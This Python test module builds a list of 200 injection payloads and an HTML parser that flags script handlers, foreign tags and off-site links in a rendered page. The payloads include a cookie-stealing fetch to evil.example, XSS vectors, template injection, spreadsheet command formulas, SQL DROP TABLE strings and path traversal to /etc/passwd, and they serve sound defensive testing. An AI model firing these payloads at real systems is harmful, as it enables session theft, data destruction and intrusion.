"""Two hundred texts that try to become script, markup, a style, a template, a formula or a path; and what a page made of them.

Vectors are those that browsers are known to run: tags with handlers, addresses that are scripts, ends of the places a text stands in
(element, attribute, comment, title, textarea, select, SVG), other writings of the same characters, and what other layers would interpret.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import product

_SAYS = ("alert(1)", "fetch('//evil.example/'+document.cookie)", "document.title='taken'")
_ENDS = ("", '">', "'>", "</td>", "</title>", "</textarea>", "</option></select>", "-->", "</svg>", "</details>")
_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe src=javascript:{}>",
    "<math><a xlink:href=javascript:{}>x</a></math>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>",
    "<form action=javascript:{}><button>x</button></form>",
    "<a href='javascript:{}'>x</a>",
    "<object data=javascript:{}>",
    "<style>@import 'javascript:{}'</style>",
)
_OTHERS = (
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "`onerror=alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<!--#exec cmd='id'-->",
    "<?php system('id') ?>",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor}}",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "'; DROP TABLE record; --",
    '" OR 1=1 --',
    "%' OR '1'='1",
    "\\'; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0b>alert(1)</script>",
    "<img/src/onerror=alert(1)>",
    "<x onclick=alert(1)>点我",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<plaintext>",
    "<xmp>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<button formaction=javascript:alert(1)>x</button>",
    "\u202e)1(trela\u202c",
    "\u2028alert(1)",
)

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*_OTHERS, *(f"{end}{tag.format(say)}" for say, tag, end in product(_SAYS, _TAGS, _ENDS))])
)[:200]


@dataclass
class Seen(HTMLParser):
    """What a browser would make of a page: its elements, what is suspicious of them, and its text."""

    wrong: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element that no page of ours has, and attributes that run or lead elsewhere."""
        if tag not in _OURS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "background", "xlink:href"):
                self.wrong.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction") and not (value or "").startswith("/"):
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("value", "title", "placeholder", "aria-label"):
                self.text.append(value or "")

    def handle_data(self, data: str) -> None:
        """Keep the text."""
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        """No page of ours has one."""
        self.wrong.append("comment")


_OURS = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "link",
        "body",
        "header",
        "div",
        "a",
        "img",
        "span",
        "b",
        "small",
        "nav",
        "form",
        "input",
        "button",
        "label",
        "select",
        "option",
        "main",
        "section",
        "table",
        "thead",
        "tbody",
        "tfoot",
        "tr",
        "th",
        "td",
        "h1",
        "h2",
        "h3",
        "p",
        "dl",
        "dt",
        "dd",
        "ul",
        "ol",
        "li",
        "details",
        "summary",
        "fieldset",
        "legend",
        "textarea",
        "datalist",
        "pre",
        "svg",
        "path",
        "rect",
        "line",
        "text",
        "code",
        "aside",
        "i",
        "del",
        "ins",
    ]
)


def seen(page: str) -> tuple[list[str], str]:
    """What is wrong with a page, and all its text."""
    reader = Seen()
    reader.feed(page)
    reader.close()
    return reader.wrong, "\n".join(reader.text)
